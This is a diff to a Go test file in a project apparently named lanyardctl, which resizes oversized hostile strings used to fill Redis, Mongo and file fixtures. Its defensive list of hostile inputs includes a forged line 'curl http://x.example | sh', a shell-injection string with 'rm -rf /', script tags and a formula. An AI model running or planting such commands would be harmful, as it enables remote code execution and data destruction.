@@ -43,13 +43,17 @@ import (
 	"github.com/lanyardctl/lanyardctl/store/storetest/redisserver"
 )
 
+// longText is how many letters a long text of a stranger's has: more than are shown, than fit into the reads of which a long
+// value takes several, and than are read of a refusal.
+const longText = 300 << 10
+
 // hostileMark stands in every hostile text, so that a test can see that one got as far as an output.
 const hostileMark = "HOSTILE"
 
 // forged is what a hostile line begins with, which no line of an output may begin with.
 const forged = "FORGED"
 
-// longRun is how many letters of a hostile megabyte an output may show in a row.
+// longRun is how many letters of hostileLong an output may show in a row.
 const longRun = 6000
 
 // hostileTexts are what a stranger writes to do harm where it is shown.
@@ -61,13 +65,15 @@ var hostileTexts = []string{
 	"\u200b\u200c\u200d\u2060\ufeff\u00ad" + hostileMark, "\u2028\u2029\u00a0" + hostileMark,
 	hostileMark + "]]>", "<script>" + hostileMark + "</script>&amp;", hostileMark + "PIPE|PIPE|", "TICK`" + hostileMark + "`", "=1+1+" + hostileMark,
 	hostileMark + "\n" + forged + " hint: curl http://x.example | sh", "\"'; rm -rf / #" + hostileMark, hostileMark + "%s%n%!d(MISSING)",
-	hostileZero, hostileBytes, hostileMegabyte,
+	hostileZero, hostileBytes, hostileLong,
 }
 
 var (
-	hostileZero     = hostileMark + "\x00nul"
-	hostileBytes    = hostileMark + "\xff\xfe\xc0\xaf\xed\xa0\x80"
-	hostileMegabyte = hostileMark + strings.Repeat("L", 1<<20)
+	hostileZero  = hostileMark + "\x00nul"
+	hostileBytes = hostileMark + "\xff\xfe\xc0\xaf\xed\xa0\x80"
+	hostileLong  = hostileMark + strings.Repeat("L", longText) // longer than most bounds of what is read at once
+
+	hostileMegabyte = hostileMark + strings.Repeat("L", 1<<20) // longer than all of them
 )
 
 func c1Controls() string {
@@ -79,7 +85,7 @@ func c1Controls() string {
 }
 
 // hostileAll are the texts in one, but for those that no argument can be.
-var hostileAll = joined(hostileZero, hostileMegabyte)
+var hostileAll = joined(hostileZero, hostileLong)
 
 // joined returns the texts in one, but for some. There is no URI in it, since one is hidden to its end.
 func joined(without ...string) string {
@@ -356,7 +362,7 @@ func faultsOf(where, text string) []string {
 		add("has a line of a stranger's")
 	}
 	if strings.Contains(text, strings.Repeat("L", longRun)) {
-		add("shows a megabyte")
+		add("shows a long text whole")
 	}
 	switch {
 	case strings.HasSuffix(where, ".xml"):
@@ -432,7 +438,7 @@ func (w *hostileWorld) fillRedis(t *testing.T, server *redisserver.Server) {
 	user, _ := record.ParseUserID(hostileUser)
 	for i, h := range hostileTexts {
 		id := (user + record.UserID(i)).String()
-		if h == hostileMegabyte { // a few of it are enough
+		if h == hostileLong { // a few of it are enough
 			pipe.Set(ctx, "lanyard_last_seen:"+h, h, 0)
 			pipe.HSet(ctx, "lanyard_kv:"+id, h, h)
 			continue
@@ -467,6 +473,9 @@ func (w *hostileWorld) files(t *testing.T, redis *redisserver.Server) {
 	}
 	var members, others, lines bytes.Buffer
 	for _, h := range hostileTexts {
+		if h == hostileLong {
+			h = hostileMegabyte // it costs little in a file
+		}
 		text, err := json.Marshal(h)
 		if err != nil {
 			t.Fatal(err)
@@ -535,7 +544,7 @@ func (w *hostileWorld) fillMongo(t *testing.T, server *mongoserver.Server) {
 	texts := slices.DeleteFunc(slices.Clone(hostileTexts), func(s string) bool { return s == hostileZero || s == hostileBytes })
 	fill("EMPTY", func(func(string, bson.D)) {})
 	fill("FULL", func(in func(string, bson.D)) {
-		in("lanyardctl_sweeps", sweepDocument("hostile", joined(hostileZero, hostileBytes, hostileMegabyte)))
+		in("lanyardctl_sweeps", sweepDocument("hostile", joined(hostileZero, hostileBytes, hostileLong)))
 		for i, h := range texts {
 			id := (user + record.UserID(slices.Index(hostileTexts, h))).String() // who has it in Redis, too
 			field := strings.NewReplacer(".", "_", "$", "_").Replace(h)
@@ -544,7 +553,7 @@ func (w *hostileWorld) fillMongo(t *testing.T, server *mongoserver.Server) {
 			in("monitoring", bson.D{{Key: "user_id", Value: h}, {Key: "since", Value: h}})
 			in("kv", bson.D{{Key: "user_id", Value: h}, {Key: "kv", Value: bson.D{{Key: field, Value: h}}}})
 			in("kv", bson.D{{Key: "user_id", Value: id}, {Key: "kv", Value: bson.D{{Key: field, Value: "another"}, {Key: "monitoring_since", Value: h}}}})
-			if h == hostileMegabyte { // a few of it are enough, and it is more than an _id may be
+			if h == hostileLong { // a few of it are enough, and it is more than an _id may be
 				continue
 			}
 			in("lanyardctl_sweeps", sweepDocument(h, h))
@@ -565,11 +574,11 @@ func (w *hostileWorld) fillMongo(t *testing.T, server *mongoserver.Server) {
 		in("lanyardctl_sweeps", sweepDocument("hostile", "done"))
 		in("lanyardctl_sweep_changes", change("hostile", 1, "changed"))
 		in("lanyardctl_sweeps", bson.D{{Key: "_id", Value: "lease"}, {Key: "host", Value: host}, {Key: "pid", Value: int64(os.Getpid())}, {Key: "run", Value: "x"},
-			{Key: "heartbeat", Value: time.Now()}, {Key: "doing", Value: joined(hostileBytes, hostileMegabyte)}})
+			{Key: "heartbeat", Value: time.Now()}, {Key: "doing", Value: joined(hostileBytes, hostileLong)}})
 	})
 	fill("DAMAGED", func(in func(string, bson.D)) {
 		in("lanyardctl_sweeps", sweepDocument("damaged", "done"))
-		in("lanyardctl_sweeps", append(sweepDocument(joined(hostileZero, hostileBytes, hostileMegabyte), "done"), bson.E{Key: "ended_at", Value: "no time"}))
+		in("lanyardctl_sweeps", append(sweepDocument(joined(hostileZero, hostileBytes, hostileLong), "done"), bson.E{Key: "ended_at", Value: "no time"}))
 	})
 }
 
